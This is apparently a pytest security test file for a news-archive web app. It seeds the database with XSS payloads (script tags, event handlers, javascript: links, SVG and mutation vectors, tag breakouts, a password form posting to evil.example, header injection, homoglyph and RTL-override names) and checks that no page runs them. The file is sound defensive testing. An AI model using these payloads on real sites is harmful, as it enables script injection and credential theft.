"""Articles by enemies: whatever stands in any column, nothing runs, loads, breaks or misleads."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest

from archive.database import article_id, open_archive, save_site
from archive.publish.serve import make_face
from archive.records import (
    VIETNAM,
    Article,
    Attachment,
    Byline,
    Image,
    Published,
    Site,
)
from archive.stories.copies import update_stories
from tests.publish.browser import Watch, browser, served
from tests.publish.conftest import close
from tests.publish.sample import FETCHED, keep

RUN = "window.ran.push(1);alert(1)"
SCRIPT = f"<script>{RUN}</script>"
BREAKOUT = f'"\'></title></style></script></textarea></a><img src=x onerror="{RUN}">{SCRIPT}'
WHEN = Published(datetime(2024, 5, 1, 8, tzinfo=VIETNAM), "minute", "visible")

BODIES = {
    "script": f"<p>{SCRIPT}chữ</p>",
    "handlers": f"<p onmouseover='{RUN}' onclick='{RUN}'>chữ</p><img src=x onerror='{RUN}'>",
    "svg": f"<svg onload='{RUN}'><a xlink:href='javascript:{RUN}'><text>chữ</text></a></svg>"
    f"<svg><style><img src=x onerror='{RUN}'></style></svg>",
    "css": "<style>@import url(http://evil.example/a.css);body{display:none}</style>"
    "<p style='background:url(http://evil.example/b.png);position:fixed;inset:0'>chữ</p>",
    "links": f"<a href='javascript:{RUN}'>chữ</a><a href='data:text/html,{SCRIPT}'>chữ</a>"
    f"<a href=' jav&#x09;ascript:{RUN}'>chữ</a><a href='//evil.example/'>chữ</a>",
    "frames": f"<iframe src='http://evil.example/'></iframe><iframe srcdoc='{SCRIPT}'></iframe>"
    "<object data='http://evil.example/x'></object><embed src='http://evil.example/y'>chữ",
    "forms": "<form action='http://evil.example/'><input name=p type=password><button>chữ</button>"
    f"</form><button formaction='javascript:{RUN}'>chữ</button>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/'>"
    "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/a.css'>chữ",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={RUN}&gt;'></table></mtext></math><p>chữ",
    "breakout": BREAKOUT + "chữ",
    "pictures": "<img src='http://evil.example/pixel.gif'><picture><source srcset="
    "'http://evil.example/p.webp'></picture><video src='http://evil.example/v.mp4' autoplay>"
    "</video><audio src='http://evil.example/a.mp3'></audio>chữ",
    "clobber": "<p id=main><a id=to name=t>chữ</a></p><form id=queries></form>",
    "deep": "<div>" * 30_000 + "chữ",
}


def enemies() -> Iterator[tuple[str, Article]]:
    for name, html in BODIES.items():
        yield name, Article(
            url=f"https://evil.example/{name}", title=f"Bài {name}", lead="Đoàn viên dự.",
            body="chữ chữ", body_html=html, published=WHEN, byline=Byline("X"),
        )  # fmt: skip
    everywhere = BREAKOUT
    yield "everywhere", Article(
        url="https://evil.example/e?q=" + everywhere.replace(" ", "+"),
        title="Đoàn " + everywhere, lead=everywhere, body=everywhere, body_html="",
        published=WHEN, byline=Byline(everywhere, (everywhere,), everywhere, everywhere),
        section=everywhere, tags=(everywhere, "a/b?c=d&e#f"), table_text=everywhere,
        images=(
            Image(f"javascript:{RUN}", everywhere, everywhere, everywhere),
            Image("http://evil.example/i.png", "Chú thích"),
        ),
        attachments=(
            Attachment(f"javascript:{RUN}", everywhere),
            Attachment("http://evil.example/\"onclick=\"x", "công văn\u202efdp.exe"),
        ),
    )  # fmt: skip
    yield "script address", Article(
        url=f"javascript:{RUN}//đoàn", title="Bài địa chỉ", lead="", body="chữ", body_html="<p>chữ",
        published=WHEN, byline=Byline(),
    )  # fmt: skip
    yield "look-alike", Article(
        url="https://cоngdoan.vn/tin", title="Bài giả", lead="", body="chữ", body_html="<p>chữ",
        published=WHEN, byline=Byline(),
    )  # fmt: skip
    yield "giant", Article(
        url="https://evil.example/giant", title="đoàn " * 200_000, lead="dài " * 250_000,
        body="đoàn viên " * 100_000, body_html="<p>" + "đoàn viên " * 100_000 + "</p>",
        published=WHEN, byline=Byline("k" * 1_000_000, unit="đơn vị " * 100_000),
        section="s" * 1_000_000,
    )  # fmt: skip
    yield "one word", Article(
        url="https://evil.example/word", title="Ơ" * 5_000, lead="", body="ơ" * 50_000,
        body_html="", published=WHEN, byline=Byline(),
    )  # fmt: skip
    yield "empty", Article(
        url="https://evil.example/empty", title="", lead="", body="", body_html="",
        published=None, byline=Byline(),
    )  # fmt: skip
    yield "no order", Article(
        url="https://evil.example/future", title="Bài tương lai", lead="", body="chữ", body_html="",
        published=Published(datetime(9999, 12, 31, 23, tzinfo=VIETNAM), "day", "text"),
        byline=Byline(),
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, int]]:
    path = tmp_path_factory.mktemp("hostile") / "archive.db"
    db = open_archive(path)
    save_site(
        db, Site("evil", BREAKOUT, BREAKOUT, ("evil.example",), f"javascript:{RUN}", "", True)
    )
    save_site(db, Site('Huế/..?#"<b>', BREAKOUT, "", (), "http://evil.example/", "Huế", True))
    ids = {}
    for number, (name, article) in enumerate(enemies(), 1):
        ids[name] = keep(db, "evil", article, number)
    changed = Article(
        url="https://evil.example/script", title=f"Bài khác {SCRIPT}", lead="", body=SCRIPT,
        body_html=BODIES["script"], published=WHEN, byline=Byline(),
    )  # fmt: skip
    keep(db, "evil", changed, 500, FETCHED.replace(day=9))
    update_stories(db)
    header = f"text/html; {BREAKOUT}\r\nx: y"
    db.execute(
        "update captures set content_type = ?, etag = ?, location = ?, warc_file = ?,"
        " payload_digest = ?, detail = ?",
        [header] * 6,
    )
    db.execute("update articles set published_at = 'không', language = ? where title = 'Bài css'",
               ['vi" onload="x'])  # fmt: skip
    db.execute(
        "insert into crawls (id, site, kind, started_at, outcome)"
        " values (?, 'evil', 'crawl', ?, ?)",
        [BREAKOUT, "hôm qua" + SCRIPT, BREAKOUT],
    )
    db.execute(
        "insert into fetch_errors (crawl, site, url, kind, failed_at)"
        " values ('c', 'evil', ?, ?, ?)",
        [BREAKOUT] * 3,
    )
    db.conn.commit()
    db.close()
    return path, ids


def pages(ids: dict[str, int]) -> list[str]:
    evil = "%22%3E%3Cscript%3Ewindow.ran.push(1)%3C/script%3E"
    return [
        "/", "/search", "/search?q=doan", "/search?q=title:doan", f"/search?q={evil}",
        f"/search?q=doan&site={evil}&unit={evil}&topic={evil}&month={evil}&before={evil}",
        f"/search?q=%22{evil}", "/sites", "/sites/evil", "/sites/Hu%E1%BA%BF%2F..%3F%23%22%3Cb%3E",
        "/coverage", "/months/2024-05", "/months/9999-12", f"/sites/{evil}", f"/provinces/{evil}",
        "/archive", "/archive/articles", "/archive/captures", "/archive/crawls",
        "/archive/fetch_errors", "/archive/attachments", "/archive/images", "/archive/sites",
        "/archive/revisions", "/archive/units_by_activity?contains=",
        f"/archive/topics?contains={evil}",
        f"/archive?sql=select+%27{evil}%27+as+%22{evil}%22",
        "/archive?sql=select+*+from+articles+limit+30", f"/archive/articles?_search={evil}",
        f"/archive/{evil}", f"/{evil}", f"/articles/{ids['script']}/revisions",
        *(f"/archive/articles/{key}" for key in ids.values()),
    ]  # fmt: skip


async def test_every_page_answers_and_stays_small(hostile: tuple[Path, dict[str, int]]) -> None:
    face = make_face(hostile[0])
    try:
        for path in pages(hostile[1]):
            response = await face.client.get(path)
            assert response.status_code in (200, 302, 400, 404), (path, response.text[:400])
            # One article is two megabytes of words, which its own page shows; no list does.
            if str(hostile[1]["giant"]) not in path:
                assert len(response.content) < 1_000_000, path
    finally:
        close(face)


async def test_feeds_and_json_stay_whole(hostile: tuple[Path, dict[str, int]]) -> None:
    face = make_face(hostile[0], allow_indexing=True)
    try:
        feed = ET.fromstring((await face.client.get("/feed.atom?q=doan")).text)
        titles = [title.text for title in feed.iter("{http://www.w3.org/2005/Atom}title")]
        assert any("<script>" in (title or "") for title in titles), "kept as text"
        for key in hostile[1].values():
            json.loads((await face.client.get(f"/articles/{key}.json")).text)
            for ending in ("bib", "ris"):
                response = await face.client.get(f"/articles/{key}.{ending}")
                assert response.status_code == 200
        ET.fromstring((await face.client.get("/sitemap.xml")).text)
        for line in (await face.client.get("/download/articles.jsonl")).text.splitlines():
            json.loads(line)
    finally:
        close(face)


@pytest.mark.browser
def test_nothing_runs_in_a_browser(hostile: tuple[Path, dict[str, int]]) -> None:
    path, ids = hostile
    with served(path) as address, browser() as chrome:
        context = chrome.new_context(base_url=address)
        watch = Watch(context, (address,))
        page = context.new_page()
        for where in pages(ids):
            page.goto(where)
            assert page.evaluate("window.ran") == [], where
            assert page.url.startswith(address), where
            # A link that leads anywhere leads to the web.
            schemes = page.evaluate("[...document.links].map(a => a.protocol)")
            assert set(schemes) <= {"http:", "https:"}, where
            # What is hovered and focused runs nothing either.
            page.evaluate(
                "document.querySelectorAll('main *').forEach((e, i) => { if (i < 400) {"
                " e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); } })"
            )
        look_alike = page.goto(f"/archive/articles/{ids['look-alike']}")
        assert look_alike is not None
        assert "xn--" in page.locator(".facts").inner_text()
        context.close()
        assert watch.foreign == []
        assert watch.dialogs == []
        assert watch.violations == [], "the policy had nothing left to stop"


@pytest.mark.browser
def test_the_policy_stops_what_would_get_through(hostile: tuple[Path, dict[str, int]]) -> None:
    """The second line of defence: even with script and style in the page, nothing happens."""
    path, ids = hostile
    with served(path) as address, browser() as chrome:
        context = chrome.new_context(base_url=address)
        watch = Watch(context, (address,))
        page = context.new_page()
        page.goto(f"/archive/articles/{ids['script']}")
        page.evaluate(
            "document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.example/x"
            ' onerror=window.ran.push(1)><p style="color:red" onclick=window.ran.push(2)>x</p>'
            "<iframe src=http://evil.example/></iframe><a href=javascript:window.ran.push(3)"
            " id=bad>x</a>');"
            "const s = document.createElement('script'); s.textContent = 'window.ran.push(4)';"
            "document.body.append(s); document.getElementById('bad').click();"
        )
        while len(watch.violations) < 4:  # The limit of the test's time is how long.
            page.wait_for_timeout(50)
        assert page.evaluate("window.ran") == []
        assert watch.foreign == []
        context.close()


def test_ids_are_those_of_the_addresses(hostile: tuple[Path, dict[str, int]]) -> None:
    assert hostile[1]["script"] == article_id("https://evil.example/script")
